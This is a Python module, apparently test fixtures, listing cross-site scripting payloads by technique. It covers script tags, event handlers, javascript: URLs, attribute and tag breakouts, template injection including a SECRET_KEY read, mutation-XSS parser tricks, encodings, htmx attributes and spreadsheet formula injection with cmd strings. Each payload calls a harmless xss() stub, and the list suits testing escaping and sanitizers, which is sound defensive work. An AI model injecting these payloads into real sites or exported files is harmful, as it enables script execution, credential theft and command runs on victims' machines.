"""Texts that run as a script wherever a page forgets to escape or to clean them; each calls ``xss``.

What they try: elements, handlers, addresses, ways out of an attribute, a script or a title, parsers that
differ, encodings, attributes of htmx, templates, and formulas of spreadsheets.
"""

from __future__ import annotations

ELEMENTS = [
    "<script>xss()</script>",
    "<ScRiPt>xss()</sCrIpT>",
    "<script/x>xss()</script>",
    "<script\t>xss()</script\t>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    '<script src="data:,xss()"></script>',
    '<script type="module">xss()</script>',
    "<svg><script>xss()</script></svg>",
    "<svg><script xlink:href=data:,xss()></script></svg>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<iframe src=javascript:xss()></iframe>",
    "<object data=javascript:xss()></object>",
    "<embed src=javascript:xss()>",
    '<base href="javascript:/xss//">',
    '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
    '<link rel="stylesheet" href="data:text/css,*{x:xss()}">',
    "<style>@import 'data:text/css,*{x:xss()}'</style>",
    "<template><script>xss()</script></template>",
]
HANDLERS = [
    "<img src=x onerror=xss()>",
    "<img src=x onerror=xss()//",
    "<img/src='x'/onerror=xss()>",
    "<img src='x'onerror='xss()'>",
    "<IMG SRC=x OnErRoR=xss()>",
    "<image src=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg/onload=xss()>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><set onbegin=xss()></svg>",
    "<body onload=xss()>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()>",
    "<textarea autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>x</details>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()>",
    "<marquee onstart=xss()>x</marquee>",
    "<p style='animation-name:x' onanimationstart=xss()>x</p>",
    "<div onpointerover=xss()>x</div>",
    "<b\nonclick\n=\nxss()>x</b>",
    "<a href=# onclick=xss()>x</a>",
]
ADDRESSES = [
    '<a href="javascript:xss()">x</a>',
    '<a href="JaVaScRiPt:xss()">x</a>',
    '<a href=" \tjavascript:xss()">x</a>',
    '<a href="java\tscript:xss()">x</a>',
    '<a href="&#106;avascript&colon;xss()">x</a>',
    '<a href="vbscript:xss()">x</a>',
    '<a href="data:text/html,<script>xss()</script>">x</a>',
    "<form action=javascript:xss()><button>x</button></form>",
    "<button formaction=javascript:xss()>x</button>",
    "<math href=javascript:xss()>x</math>",
    "[x](javascript:xss())",
    "javascript:xss()",
]
WAYS_OUT = [
    '"><script>xss()</script>',
    "'><script>xss()</script>",
    '" onfocus="xss()" autofocus="',
    "' onfocus='xss()' autofocus='",
    "x onfocus=xss() autofocus",
    "</script><script>xss()</script>",
    "</title><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</style><script>xss()</script>",
    "--><script>xss()</script><!--",
    "]]><script>xss()</script>",
    '\\"};xss();//',
    "';xss();//",
    "${xss()}",
    "{{constructor.constructor('xss()')()}}",
    "{% load xss %}{{ settings.SECRET_KEY }}",
]
PARSERS = [
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    "<svg></p><style><a id='</style><img src=x onerror=xss()>'>",
    "<xmp><p title='</xmp><img src=x onerror=xss()>'>",
    "&lt;img src=x onerror=xss()&gt;",
    "&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;",
    "%3Cscript%3Exss()%3C/script%3E",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "＜script＞xss()＜/script＞",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
]
HTMX = [
    '<div hx-get="/" hx-trigger="load" hx-vals="js:{x:xss()}">x</div>',
    '<div hx-on:load="xss()">x</div>',
    '<div data-hx-on="load:xss()">x</div>',
    '<b data-bs-toggle="tooltip" data-bs-html="true" title="<img onerror=xss()>">x</b>',
]
FORMULAS = [
    '=HYPERLINK("https://example.org/xss","x")',
    "+cmd|' /C xss'!A0",
    "-2+3+cmd|' /C xss'!A0",
    "@SUM(1+1)*cmd|' /C xss'!A0",
    "\t=cmd|' /C xss'!A0",
]
PAYLOADS = [*ELEMENTS, *HANDLERS, *ADDRESSES, *WAYS_OUT, *PARSERS, *HTMX, *FORMULAS]
FIRST = PAYLOADS[0]
